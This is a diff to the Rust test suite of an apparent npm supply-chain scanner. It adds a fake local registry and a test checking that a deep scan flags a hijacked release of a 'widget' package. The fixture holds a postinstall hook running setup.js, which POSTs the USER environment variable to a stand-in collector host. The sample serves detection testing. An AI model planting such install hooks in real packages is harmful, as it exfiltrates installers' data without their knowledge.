@@ -29,10 +29,25 @@ fn fake_registry(documents: Vec<(String, Value)>) -> (String, Arc<AtomicUsize>) 
     )
 }
 
-/// Serves each body by path (JSON, or the bytes of an artifact), as [`fake_registry`].
+/// Serves each body by path (JSON, or the bytes of an artifact), as [`fake_registry`]. In a
+/// JSON body, `https://registry.npmjs.org/` becomes the server's own address, as a registry
+/// names its own tarballs.
 fn fake_server(bodies: Vec<(String, Vec<u8>)>) -> (String, Arc<AtomicUsize>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
+    let own = format!("http://{address}/");
+    let bodies: Vec<(String, Vec<u8>)> = bodies
+        .into_iter()
+        .map(|(path, body)| match String::from_utf8(body) {
+            Ok(text) if text.starts_with('{') => (
+                path,
+                text.replace("https://registry.npmjs.org/", &own)
+                    .into_bytes(),
+            ),
+            Ok(text) => (path, text.into_bytes()),
+            Err(error) => (path, error.into_bytes()),
+        })
+        .collect();
     let requests = Arc::new(AtomicUsize::new(0));
     let counter = requests.clone();
     std::thread::spawn(move || {
@@ -514,11 +529,24 @@ fn tarball_of(fixture: &str) -> Vec<u8> {
         }
     }
     files.sort();
+    let files: Vec<(String, Vec<u8>)> = files
+        .iter()
+        .map(|path| {
+            (
+                path.strip_prefix(&root).unwrap().display().to_string(),
+                std::fs::read(path).unwrap(),
+            )
+        })
+        .collect();
+    tarball(&files)
+}
+
+/// An npm tarball of `files` (paths relative to the package root).
+fn tarball(files: &[(String, Vec<u8>)]) -> Vec<u8> {
     let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     let mut tar = tar::Builder::new(gzip);
-    for path in files {
-        let data = std::fs::read(&path).unwrap();
-        let name = format!("package/{}", path.strip_prefix(&root).unwrap().display());
+    for (path, data) in files {
+        let name = format!("package/{path}");
         let mut header = tar::Header::new_gnu();
         header.set_size(data.len() as u64);
         header.set_mode(0o644);
@@ -714,4 +742,110 @@ fn inspect_opens_directories_and_says_what_it_found() {
 
     let output = customs_in(&["inspect", "no/such/thing"], &fixtures, &[]);
     assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn deep_scans_compare_each_release_with_the_one_before() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = common::advisory_db(dir.path());
+    let client = b"const https = require('https');\nmodule.exports = (path, done) => https.get('https://api.widget-service.net' + path, done);\n".to_vec();
+    let manifest = |version: &str, extra: &str| {
+        format!(r#"{{"name": "widget", "version": "{version}", "main": "index.js"{extra}}}"#)
+            .into_bytes()
+    };
+    let before = tarball(&[
+        ("package.json".to_owned(), manifest("1.4.2", "")),
+        ("index.js".to_owned(), client.clone()),
+    ]);
+    // The hijacked patch release: a postinstall running a new file that posts to a new host.
+    let after = tarball(&[
+        (
+            "package.json".to_owned(),
+            manifest("1.4.3", r#", "scripts": {"postinstall": "node setup.js"}"#),
+        ),
+        ("index.js".to_owned(), client),
+        (
+            "setup.js".to_owned(),
+            b"require('https').request('https://metrics.fixture-collector.net/v1', {method: 'POST'}).end(process.env.USER);\n".to_vec(),
+        ),
+    ]);
+    let (path, mut document) = packument(
+        "widget",
+        &[
+            ("1.4.2", "2020-01-01T00:00:00Z", json!({}), "alice"),
+            (
+                "1.4.3",
+                "2020-02-01T00:00:00Z",
+                json!({"postinstall": "node setup.js"}),
+                "alice",
+            ),
+        ],
+    );
+    document["versions"]["1.4.2"]["dist"]["integrity"] = Value::String(sri(&before));
+    let mut bodies = vec![(path, document.to_string().into_bytes())];
+    bodies.push(("/widget/-/widget-1.4.2.tgz".to_owned(), before));
+    bodies.push(("/widget/-/widget-1.4.3.tgz".to_owned(), after.clone()));
+    let (registry, _) = fake_server(bodies);
+    let project = dir.path().join("project");
+    write(
+        &project,
+        "package-lock.json",
+        &format!(
+            r#"{{"name": "app", "lockfileVersion": 3, "packages": {{
+  "": {{"name": "app", "version": "1.0.0", "dependencies": {{"widget": "^1.4.0"}}}},
+  "node_modules/widget": {{"version": "1.4.3", "resolved": "{registry}widget/-/widget-1.4.3.tgz", "integrity": "{}", "hasInstallScript": true}}
+}}}}"#,
+            sri(&after)
+        ),
+    );
+    let output = customs_in(
+        &["scan", "project", "--db", &db, "--deep", "--format", "json"],
+        dir.path(),
+        &[
+            ("npm_config_registry", registry.as_str()),
+            ("NO_PROXY", "127.0.0.1"),
+            ("no_proxy", "127.0.0.1"),
+            ("HOME", dir.path().to_str().unwrap()),
+        ],
+    );
+    let document = json(&output);
+    let findings = document["findings"].as_array().unwrap();
+    let change = findings
+        .iter()
+        .find(|f| f["code"] == "suspicious-change")
+        .unwrap_or_else(|| panic!("{}\n{}", stderr(&output), document));
+    assert_eq!(change["level"], "warn");
+    assert_eq!(change["package"]["name"], "widget");
+    let inspection = &change["inspection"];
+    assert_eq!(inspection["artifact"], "widget-1.4.3.tgz");
+    assert_eq!(
+        inspection["reasons"][0],
+        "compared with 1.4.2 (widget-1.4.2.tgz)"
+    );
+    let hits: Vec<String> = inspection["hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|hit| {
+            format!(
+                "{} {} {}",
+                hit["rule"].as_str().unwrap(),
+                hit["file"].as_str().unwrap(),
+                hit["excerpt"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert_eq!(hits.len(), 3, "{hits:#?}");
+    assert!(
+        hits[0].starts_with("new-endpoint setup.js ")
+            && hits[0].contains("metrics.fixture-collector.net"),
+        "{hits:#?}"
+    );
+    assert_eq!(
+        hits[1],
+        "new-install-script package.json postinstall: node setup.js"
+    );
+    assert_eq!(hits[2], "new-unasked-file setup.js runs at install");
+    let message = change["message"].as_str().unwrap();
+    assert!(message.contains("adds to 1.4.2"), "{message}");
 }
